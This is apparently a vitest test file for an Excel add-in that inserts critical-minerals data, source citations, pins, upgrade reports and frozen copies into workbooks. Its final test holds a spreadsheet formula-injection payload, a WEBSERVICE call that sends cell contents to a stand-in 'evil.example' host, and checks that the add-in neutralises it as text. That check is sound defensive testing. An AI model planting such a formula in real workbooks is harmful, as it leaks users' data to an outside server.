// The Excel-facing layer of the workbook workflows against a mocked Excel (office-addin-mock):
// insert a formula, insert a table with its Sources sheet, pin and read the pin, scan and report
// (nothing written until confirmed), write the report sheet, freeze for sharing. Each checks the
// number of context.sync() calls: batched per step, never per cell.
import * as core from "@critmin/core";
import { afterEach, describe, expect, it } from "vitest";
import * as functions from "../../src/functions/functions.ts";
import { evaluatorFor } from "../../src/workbook/evaluate.ts";
import {
  freezeForSharing,
  insertFormula,
  prepareUpgradeReport,
  readPin,
  REPORT_SHEET,
  scanWorkbook,
  writePin,
  writeReportSheet,
  writeTable,
} from "../../src/workbook/excel.ts";
import { producersTable } from "../../src/workbook/insertTable.ts";
import { OWNED_SETTING, ReplaceNeeded } from "../../src/workbook/owned.ts";
import { PIN_SETTING, pinLabel, serialisePin } from "../../src/workbook/pin.ts";
import { SOURCES_HEADER } from "../../src/workbook/sourcesSheet.ts";
import { Cancelled, reportSheetValues } from "../../src/workbook/upgradeReport.ts";
import { mockExcel, type MockExcel } from "./mockWorkbook.ts";
import { KNOWN, NEW, OLD, registeredFunctions } from "./registry.ts";

const scope = globalThis as { Excel?: unknown };

const lookup = registeredFunctions();
afterEach(() => {
  delete scope.Excel;
});

function use(mock: MockExcel): MockExcel {
  scope.Excel = mock.Excel;
  return mock;
}

/** A ministry workbook: a summary sheet with CRITMIN formulas and a sheet without any. */
function ministryWorkbook(extraRows = 0) {
  const formulas: unknown[][] = [
    ["Mineral", "China share", "Note"],
    ["cobalt", '=CRITMIN.CHINA_SHARE("cobalt")', '=A2&" refined"'],
    ["lithium", '=CRITMIN.CHINA_SHARE("lithium",,,"iea-cmde-2025")', ""],
    ["nickel", "=CRITMIN.CHINA_SHARE(A4)", ""],
  ];
  const values: unknown[][] = [
    ["Mineral", "China share", "Note"],
    ["cobalt", 0.76, "cobalt refined"],
    ["lithium", 0.7, ""],
    ["nickel", 0.6, ""],
  ];
  for (let i = 0; i < extraRows; i++) {
    formulas.push([`m${i}`, '=CRITMIN.HHI("cobalt")', ""]);
    values.push([`m${i}`, 3000, ""]);
  }
  return {
    Summary: { address: `B2:D${formulas.length + 1}`, formulas, values },
    Notes: {
      address: "A1:A2",
      formulas: [["Written by the ministry"], ["=1+1"]],
      values: [["Written by the ministry"], [2]],
    },
    Empty: undefined as never,
  };
}

describe("insert", () => {
  it("writes the gallery's formula into the active cell in one sync", async () => {
    const mock = use(mockExcel({ Sheet1: { address: "A1", formulas: [[""]], values: [[""]] } }));
    const address = await insertFormula('=CRITMIN.SHARE("lithium","Australia","mining",2023)');
    expect(address).toBe("Sheet1!A1");
    expect(mock.activeCell.formulas).toEqual([['=CRITMIN.SHARE("lithium","Australia","mining",2023)']]);
    expect(mock.syncs()).toBe(1);
  });

  it("writes a table at the active cell and a Sources sheet with every edition's citation, licence and URL", async () => {
    const mock = use(
      mockExcel(
        { Data: { address: "A1", formulas: [[""]], values: [[""]] } },
        { active: { sheet: "Data", row: 2, column: 1 } },
      ),
    );
    const selection = { mineral: "cobalt", stage: "refining", year: 2030, edition: "iea-cmde-2025" };
    const block = producersTable(
      selection,
      functions.topProducers("cobalt", "refining" as never, 50, 2030, "iea-cmde-2025" as never),
    );
    const inserted = await writeTable(block, core.editions(), { datasetVersion: core.datasetVersion() });
    const rows = block.rows.length + 1;
    expect(inserted).toEqual({ sheet: "Data", address: `B3:F${rows + 2}`, sources: "Sources" });
    expect(mock.tables).toEqual([
      expect.objectContaining({
        sheet: "Data",
        address: `Data!B3:F${rows + 2}`,
        name: "critmin_cobalt_refining_2030_iea_cmde_2025",
      }),
    ]);
    const body = mock.writes.find((w) => w.sheet === "Data" && w.values)!;
    expect(body.values![0]).toEqual(["Rank", "Country", "Name", "Share", "Tonnes"]);
    expect(body.values![1]![3]).toBe(core.topProducers("cobalt", { year: 2030, source: "iea-cmde-2025" })![0]!.share);
    expect(mock.writes.filter((w) => w.numberFormat).map((w) => w.numberFormat)).toEqual([
      [["0"]],
      [["0.0%"]],
      [["#,##0"]],
    ]);
    expect(mock.sheetNames()).toContain("Sources");
    const sources = mock.writes.find((w) => w.sheet === "Sources" && w.values)!.values!;
    const edition = core.editions().find((e) => e.id === "iea-cmde-2025")!;
    expect(sources[0]).toEqual([...SOURCES_HEADER]);
    expect(sources[1]).toEqual([
      edition.id,
      edition.title,
      edition.publisher,
      // Written as text (Excel drops the apostrophe from the value), not turned into a date.
      `'${edition.date}`,
      edition.citation,
      edition.licence,
      edition.url,
    ]);
    expect(sources.flat()).toContain(`'${core.datasetVersion()}`);
    // Read; the rows; the table and sources; the new Sources sheet recorded as the add-in's.
    expect(mock.syncs()).toBe(4);
    expect(JSON.parse(mock.settings.get(OWNED_SETTING)!)).toEqual({ v: 1, ids: [mock.ids.get("Sources")] });
  });

  it("stops writing a big table when cancelled, before the table object is made", async () => {
    use(mockExcel({ Data: { address: "A1", formulas: [[""]], values: [[""]] } }));
    const controller = new AbortController();
    const rows = Array.from({ length: 12_000 }, (_, i) => [i + 1, "CHN", "China", 0.5, 10]);
    const block = {
      name: "big",
      title: "big",
      header: ["Rank", "Country", "Name", "Share", "Tonnes"],
      rows,
      numberFormats: ["0", "General", "General", "0.0%", "#,##0"],
      editions: ["iea-cmde-2025"],
    };
    const progress: number[] = [];
    const run = writeTable(
      block,
      core.editions(),
      { datasetVersion: "x" },
      { signal: controller.signal, onProgress: (p) => (progress.push(p.done), p.done >= 5_000 && controller.abort()) },
    );
    await expect(run).rejects.toBeInstanceOf(Cancelled);
    expect(progress).toEqual([0, 5_000]);
  });
});

describe("pin", () => {
  it("stores the pin in the workbook's settings, recalculates, and reads it back", async () => {
    const mock = use(mockExcel({ Sheet1: { address: "A1", formulas: [[""]], values: [[""]] } }));
    expect(await readPin(KNOWN)).toEqual({ ok: true, pin: null });
    await writePin(OLD);
    expect(JSON.parse(mock.settings.get(PIN_SETTING)!)).toMatchObject({ v: 1, editions: OLD.editions });
    expect(mock.calculations).toEqual(["Full"]);
    expect(await readPin(KNOWN)).toEqual({ ok: true, pin: OLD });
    await writePin(null);
    expect(mock.settings.has(PIN_SETTING)).toBe(false);
    expect(mock.syncs()).toBe(4);
  });

  it("reports a pin it cannot honour instead of dropping it", async () => {
    use(
      mockExcel(
        { Sheet1: { address: "A1", formulas: [[""]], values: [[""]] } },
        { settings: { [PIN_SETTING]: serialisePin({ editions: ["iea-cmde-2031"] }) } },
      ),
    );
    expect(await readPin(KNOWN)).toEqual({
      ok: false,
      reason: expect.stringContaining("iea-cmde-2031 is not an edition this add-in carries"),
    });
  });
});

describe("upgrade report", () => {
  it("scans every sheet in batches, finds the CRITMIN formulas, and evaluates them under both pins without writing", async () => {
    const mock = use(mockExcel(ministryWorkbook()));
    const scanned = await scanWorkbook();
    expect(scanned.map((s) => [s.name, s.cells.map((c) => c.address)])).toEqual([
      ["Summary", ["C3", "C4", "C5"]],
      ["Notes", []],
      ["Empty", []],
    ]);
    expect(mock.syncs()).toBe(2);

    const report = await prepareUpgradeReport({ before: evaluatorFor(OLD, lookup), after: evaluatorFor(NEW, lookup) });
    const oldShare = core.chinaShare("cobalt", { source: "iea-cmde-2024" })!;
    const newShare = core.chinaShare("cobalt", { source: "iea-cmde-2025" })!;
    expect(report.changed).toEqual([
      {
        sheet: "Summary",
        address: "C3",
        formula: '=CRITMIN.CHINA_SHARE("cobalt")',
        old: oldShare,
        new: newShare,
        difference: newShare - oldShare,
      },
    ]);
    expect(report.unchanged).toBe(1);
    expect(report.notEvaluated.map((n) => n.address)).toEqual(["C5"]);
    expect(mock.writes).toEqual([]);
    expect(mock.settings.size).toBe(0);

    // Confirmed: the report sheet, in one more read, one write and one to record the sheet as the add-in's.
    const before = mock.syncs();
    await writeReportSheet(reportSheetValues(report, { from: pinLabel(OLD), to: pinLabel(NEW) }));
    expect(mock.syncs() - before).toBe(3);
    expect(mock.sheetNames()).toContain(REPORT_SHEET);
    const written = mock.writes.find((w) => w.sheet === REPORT_SHEET)!;
    const header = written.values!.findIndex((r) => r[0] === "Sheet");
    expect(written.values![header]).toEqual(["Sheet", "Address", "Formula", "Old", "New", "Difference", "Note"]);
    expect(written.values![header + 1]).toEqual([
      "Summary",
      "C3",
      `'=CRITMIN.CHINA_SHARE("cobalt")`,
      oldShare,
      newShare,
      newShare - oldShare,
      "",
    ]);
    expect(written.address).toBe(`A1:G${written.values!.length}`);
  });

  it("scans a workbook of many sheets with few syncs, and can be cancelled", async () => {
    const many = Object.fromEntries(
      Array.from({ length: 30 }, (_, i) => [
        `S${i}`,
        { address: "A1:A2", formulas: [['=CRITMIN.HHI("cobalt")'], ["x"]], values: [[1], ["x"]] },
      ]),
    );
    const mock = use(mockExcel(many));
    const progress: number[] = [];
    const scanned = await scanWorkbook({ onProgress: (p) => progress.push(p.done) });
    expect(scanned.flatMap((s) => s.cells)).toHaveLength(30);
    expect(mock.syncs()).toBe(1 + Math.ceil(30 / 8));
    expect(progress).toEqual([0, 8, 16, 24, 30]);
    const controller = new AbortController();
    await expect(
      scanWorkbook({ signal: controller.signal, onProgress: (p) => p.done >= 8 && controller.abort() }),
    ).rejects.toBeInstanceOf(Cancelled);
  });
});

describe("freeze for sharing", () => {
  it("copies every sheet, replaces CRITMIN formulas by values in the copies only, and lists the editions cited", async () => {
    const mock = use(mockExcel(ministryWorkbook()));
    const result = await freezeForSharing(OLD, core.editions(), { datasetVersion: core.datasetVersion() });
    expect(result.sheets).toEqual([
      { from: "Summary", to: "Frozen – Summary", frozen: 3 },
      { from: "Notes", to: "Frozen – Notes", frozen: 0 },
      { from: "Empty", to: "Frozen – Empty", frozen: 0 },
    ]);
    expect(mock.copies.map((c) => c.to)).toEqual(["Frozen – Summary", "Frozen – Notes", "Frozen – Empty"]);
    // Only the CRITMIN cells are written (as one block); the labels and the ministry's own formula
    // stay as the copy made them, and the sheet without CRITMIN formulas gets no write at all.
    const frozen = mock.writes.filter((w) => w.formulas || w.values || w.numberFormat || w.valuesAsJson);
    expect(frozen.filter((w) => w.sheet !== "Frozen – Sources").map((w) => [w.sheet, w.address])).toEqual([
      ["Summary (copy)", "C3:C5"],
    ]);
    expect(frozen[0]!.formulas).toEqual([[0.76], [0.7], [0.6]]);
    expect(result.editions).toEqual(["ec-crm-2023", "iea-cmde-2024", "iea-cmde-2025", "usgs-mcs-2025"]);
    expect(result.sources).toBe("Frozen – Sources");
    const sources = mock.writes.find((w) => w.sheet === "Frozen – Sources" && w.values)!.values!;
    expect(sources.slice(1, 5).map((r) => r[0])).toEqual(result.editions);
    expect(sources.every((r) => r.length === SOURCES_HEADER.length)).toBe(true);
    // Scan: names + one batch; freeze: one sync for every copy and the Sources sheet.
    expect(mock.syncs()).toBe(3);
  });

  it("with no pin, says every edition is listed because formulas name none", async () => {
    const mock = use(mockExcel({ A: { address: "A1", formulas: [['=CRITMIN.HHI("cobalt")']], values: [[3000]] } }));
    const result = await freezeForSharing(null, core.editions(), { datasetVersion: "v" });
    expect(result.editions).toEqual([...KNOWN].sort());
    const sources = mock.writes.find((w) => w.sheet === "Frozen – Sources" && w.values)!.values!;
    expect(sources.flat().join(" ")).toMatch(/name no edition and the workbook is not pinned/);
  });
});

describe("writes never destroy a user's data", () => {
  const selection = { mineral: "cobalt", stage: "refining", year: 2030, edition: "iea-cmde-2025" };
  const block = () =>
    producersTable(selection, functions.topProducers("cobalt", "refining" as never, 5, 2030, "iea-cmde-2025" as never));
  const info = { datasetVersion: "v" };
  /** A workbook whose person keeps their own sheet called "Sources". */
  const withOwnSources = () =>
    mockExcel({
      Data: { address: "A1", formulas: [[""]], values: [[""]] },
      Sources: {
        address: "A1:B2",
        formulas: [
          ["My notes", ""],
          ["call Ana", "=1+1"],
        ],
        values: [
          ["My notes", ""],
          ["call Ana", 2],
        ],
      },
    });

  it('leaves a user\'s own "Sources" sheet untouched and lists the editions on "Sources (2)"', async () => {
    const mock = use(withOwnSources());
    const inserted = await writeTable(block(), core.editions(), info);
    expect(inserted.sources).toBe("Sources (2)");
    expect(mock.sheetNames()).toEqual(["Data", "Sources", "Sources (2)"]);
    expect(mock.writes.filter((w) => w.sheet === "Sources")).toEqual([]);
    expect(mock.cleared).toEqual([]);
    expect(mock.deleted).toEqual([]);
    expect(mock.writes.find((w) => w.sheet === "Sources (2)" && w.values)!.values![0]).toEqual([...SOURCES_HEADER]);
    expect(JSON.parse(mock.settings.get(OWNED_SETTING)!).ids).toEqual([mock.ids.get("Sources (2)")]);
  });

  it("extends the add-in's own Sources sheet only after confirmation, and never the user's", async () => {
    const earlier = core.editions().find((e) => e.id === "usgs-mcs-2025")!;
    const own = [[...SOURCES_HEADER], [earlier.id, earlier.title, "", "", "", "", ""]];
    // Sheets get ids in order: "Sources (2)", the add-in's from an earlier insert, is sheet-3.
    const mock = use(
      mockExcel(
        {
          Data: { address: "A1", formulas: [[""]], values: [[""]] },
          Sources: { address: "A1", formulas: [["My notes"]], values: [["My notes"]] },
          "Sources (2)": { address: "A1:G2", formulas: own, values: own },
        },
        { settings: { [OWNED_SETTING]: JSON.stringify({ v: 1, ids: ["sheet-3"] }) } },
      ),
    );
    expect(mock.ids.get("Sources (2)")).toBe("sheet-3");
    // Unconfirmed: nothing is written, and the pane is told which sheet it would rewrite.
    const asked = writeTable(block(), core.editions(), info);
    await expect(asked).rejects.toBeInstanceOf(ReplaceNeeded);
    await expect(asked).rejects.toMatchObject({ sheet: "Sources (2)" });
    expect(mock.writes).toEqual([]);
    expect(mock.tables).toEqual([]);
    expect(mock.syncs()).toBe(1);
    // Confirmed: the add-in's sheet is rewritten in place, keeping its editions; the user's is untouched.
    const replaced = await writeTable(block(), core.editions(), info, { onExisting: "replace" });
    expect(replaced.sources).toBe("Sources (2)");
    expect(mock.cleared).toEqual(["Sources (2)"]);
    const rows = mock.writes.find((w) => w.sheet === "Sources (2)" && w.values)!.values!;
    expect(rows.slice(1, 3).map((r) => r[0])).toEqual(["iea-cmde-2025", "usgs-mcs-2025"]);
    expect(mock.writes.filter((w) => w.sheet === "Sources")).toEqual([]);
    // Or a new sheet beside it.
    const beside = await writeTable(block(), core.editions(), info, { onExisting: "new" });
    expect(beside.sources).toBe("Sources (3)");
    expect(JSON.parse(mock.settings.get(OWNED_SETTING)!).ids).toEqual(["sheet-3", mock.ids.get("Sources (3)")]);
    expect(mock.deleted).toEqual([]);
  });

  it("replaces the add-in's own report sheet only after confirmation; a user's sheet of that name is kept", async () => {
    const mock = use(mockExcel({ [REPORT_SHEET]: { address: "A1", formulas: [["mine"]], values: [["mine"]] } }));
    const values = [["CRITMIN upgrade report"]];
    expect(await writeReportSheet(values)).toBe(`${REPORT_SHEET} (2)`);
    expect(mock.deleted).toEqual([]);
    await expect(writeReportSheet(values)).rejects.toMatchObject({ sheet: `${REPORT_SHEET} (2)` });
    expect(mock.deleted).toEqual([]);
    expect(await writeReportSheet(values, { onExisting: "replace" })).toBe(`${REPORT_SHEET} (2)`);
    expect(mock.deleted).toEqual([`${REPORT_SHEET} (2)`]);
    expect(mock.sheetNames()).toEqual([REPORT_SHEET, `${REPORT_SHEET} (2)`]);
    // The replacement is recorded in place of the deleted sheet, so it can be replaced again.
    expect(JSON.parse(mock.settings.get(OWNED_SETTING)!).ids).toEqual([mock.ids.get(`${REPORT_SHEET} (2)`)]);
    expect(mock.writes.filter((w) => w.sheet === REPORT_SHEET)).toEqual([]);
  });

  it("a sheet the add-in no longer recognises (unreadable record) is treated as the user's", async () => {
    const mock = use(
      mockExcel(
        { [REPORT_SHEET]: { address: "A1", formulas: [["x"]], values: [["x"]] } },
        { settings: { [OWNED_SETTING]: "{not json" } },
      ),
    );
    expect(await writeReportSheet([["r"]])).toBe(`${REPORT_SHEET} (2)`);
    expect(mock.deleted).toEqual([]);
  });

  it("a citation starting with = lands as text, not as a live formula", async () => {
    const mock = use(mockExcel({ Data: { address: "A1", formulas: [[""]], values: [[""]] } }));
    const hostile = '=WEBSERVICE("https://evil.example/?"&A1)';
    const editions = core
      .editions()
      .map((e) => (e.id === "iea-cmde-2025" ? { ...e, citation: hostile, title: "+cmd", publisher: "@SUM(1)" } : e));
    const table = { ...block(), rows: [[1, "-CHN", "=China", 0.5, 10]] };
    await writeTable(table, editions, info);
    const sources = mock.writes.find((w) => w.sheet === "Sources" && w.values)!.values!;
    expect(sources[1]).toEqual(expect.arrayContaining([`'${hostile}`, "'+cmd", "'@SUM(1)"]));
    expect(sources.flat().filter((v) => typeof v === "string" && /^[=+\-@]/.test(v))).toEqual([]);
    const body = mock.writes.find((w) => w.sheet === "Data" && w.values)!.values!;
    expect(body[1]).toEqual([1, "'-CHN", "'=China", 0.5, 10]);
  });
});
